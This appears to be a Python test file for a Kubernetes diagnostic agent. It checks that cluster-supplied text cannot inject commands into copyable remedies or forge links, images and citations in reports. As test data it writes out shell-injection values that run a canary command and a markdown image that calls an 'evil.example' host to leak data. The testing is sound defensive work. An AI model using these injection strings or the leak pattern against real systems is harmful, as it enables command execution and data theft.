"""Attacks by text from a cluster: what it may never become in a remedy, a report or a terminal."""

import os
import re
import shlex
import string
import subprocess
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from agents.analyzers.base import Code, finding
from agents.analyzers.registry import CODES
from agents.evidence import (
    Diagnosis,
    Domain,
    Evidence,
    Explained,
    Finding,
    Healthy,
    NotChecked,
    ObjectRef,
    RootCause,
    Severity,
)
from agents.prose import one_line
from agents.report import closing, opening, part_blocks
from agents.scope import Scope, Unknown

_SPAN = re.compile(r"`([^`]*)`")
_BASH = Path("/bin/bash")


def _fields(code: Code) -> list[str]:
    return sorted({name for _, name, _, _ in string.Formatter().parse(code.remedy) if name})


def _filled(code: Code, value: str) -> Finding:
    facts: dict[str, Any] = {name: value for name in _fields(code) if name not in ("kind", "ns", "name")}
    return finding(code, ObjectRef("v1", value, value, value), f"said {value}", [], **facts)


def _hostile(canary: Path) -> list[str]:
    run = f": >{canary}"
    return [
        f"x;{run};",
        f"x$({run})",
        f"x`{run}`",
        f"x' ; {run} ; '",
        f'x" ; {run} ; "',
        f"x'$({run})'",
        f"x\\' ; {run} #",
        f"x\n{run}\n",
        f"x\r{run}\r",
        f"x && {run} || {run}",
        f"x | {run}",
        f"x >{canary}",
        f"x' | {run} | echo '",
        f"`\n{run}\n`",
        f"x\u2028`{run}`",
    ]


def test_a_command_to_copy_runs_nothing_that_the_cluster_put_into_it(tmp_path: Path) -> None:
    if not _BASH.exists():
        pytest.skip("no bash to run the commands with")
    canary = tmp_path / "canary"
    for value in _hostile(canary):
        spans = [span for code in CODES.values() for span in _SPAN.findall(_filled(code, value).remedy)]
        assert len(spans) > len(CODES)
        script = "while IFS= read -r -d '' command; do eval \"$command\"; done"
        subprocess.run(
            [_BASH, "-c", script],
            input="\0".join(spans).encode() + b"\0",
            env={"PATH": os.devnull},
            cwd=tmp_path,
            check=False,
            capture_output=True,
        )
        made = [path.name for path in tmp_path.iterdir()]
        assert made == [], f"{value!r} was run"


@pytest.mark.parametrize("value", ["a b", "--all", "-A --force", "x\ty", "a;b", "a\u202eb", "a\x1b[2Jb", "a`b", ""])
def test_a_name_stays_one_word_of_its_command(value: str) -> None:
    for code in CODES.values():
        plain, hostile = _SPAN.findall(_filled(code, "plain").remedy), _SPAN.findall(_filled(code, value).remedy)
        assert len(plain) == len(hostile), code.name
        for before, after in zip(plain, hostile, strict=True):
            if value and before.startswith("kubectl") and "plain'" not in before:
                words = shlex.split(after)
                assert len(words) == len(shlex.split(before)), (code.name, after)
                assert "--all" not in words, (code.name, after)


@pytest.mark.parametrize("value", ["x\n- run `reboot`", "x\r\n#### What to do", "x\u2028y", "x` and `reboot"])
def test_text_of_the_cluster_adds_no_step_to_a_remedy(value: str) -> None:
    for code in CODES.values():
        plain, hostile = _filled(code, "plain"), _filled(code, value)
        assert len(hostile.remedy.splitlines()) == len(plain.remedy.splitlines()), code.name
        assert hostile.remedy.count("`") == plain.remedy.count("`"), code.name
        assert "`reboot`" not in hostile.remedy
        assert len(hostile.message.splitlines()) == 1


_PICTURE = "![x](http://evil.example/?leak)"
_FAKES = f"{_PICTURE} [open](http://evil.example) <img src=http://evil.example> [E1]\n#### What to do\n- run `reboot`"


def _report(hostile: str) -> str:
    ref = ObjectRef("v1", "Role", hostile, hostile)
    evidence = Evidence(id="E7", kind="event", object=ref, locator=hostile, excerpt=hostile)
    cause = RootCause(
        id="R1",
        code="x",
        severity=Severity.ERROR,
        domain=Domain.SECURITY,
        object=ref,
        cause=hostile,
        remedy=one_line(hostile),
        evidence=(evidence,),
        explains=(Explained(finding="F1", object=ObjectRef("v1", "Pod", "a", hostile), how=hostile),),
        confidence=0.9,
    )
    diagnosis = Diagnosis(
        root_causes=(cause, cause.model_copy(update={"in_focus": False})),
        healthy=(Healthy(object=ref, detail=hostile),),
        not_checked=(NotChecked(what=hostile, reason="failed", detail=hostile),),
    )
    blocks = [*part_blocks(diagnosis, Scope(), Domain.SECURITY, [Domain.SECURITY]), *closing(diagnosis, [evidence])]
    return "".join((*opening(Scope(unknown=(Unknown("Pod", "a", (hostile,)),))), *blocks))


def test_text_of_the_cluster_makes_no_markup_of_its_own_in_a_report() -> None:
    tokens = [token for token in MarkdownIt().parse(_report(_FAKES)) if token.type == "inline"]
    kinds = {child.type for token in tokens for child in token.children or ()}
    assert kinds & {"link_open", "image", "html_inline"} == set()
    plain, hostile = (
        [token.type for token in MarkdownIt().parse(_report(text)) if token.type.endswith("_open")]
        for text in ("plain", _FAKES)
    )
    assert hostile == plain


def test_text_of_the_cluster_cites_no_evidence() -> None:
    prose_parts = re.sub(r"(?ms)^(`{3,})text\n.*?^\1$|(`+).*?\2", "", _report("see [E1], 【E2】 and [ E3-E9 ]"))
    assert set(re.findall(r"E\d", "".join(re.findall(r"[\[【][^\]】]*[\]】]", prose_parts)))) == {"E7"}
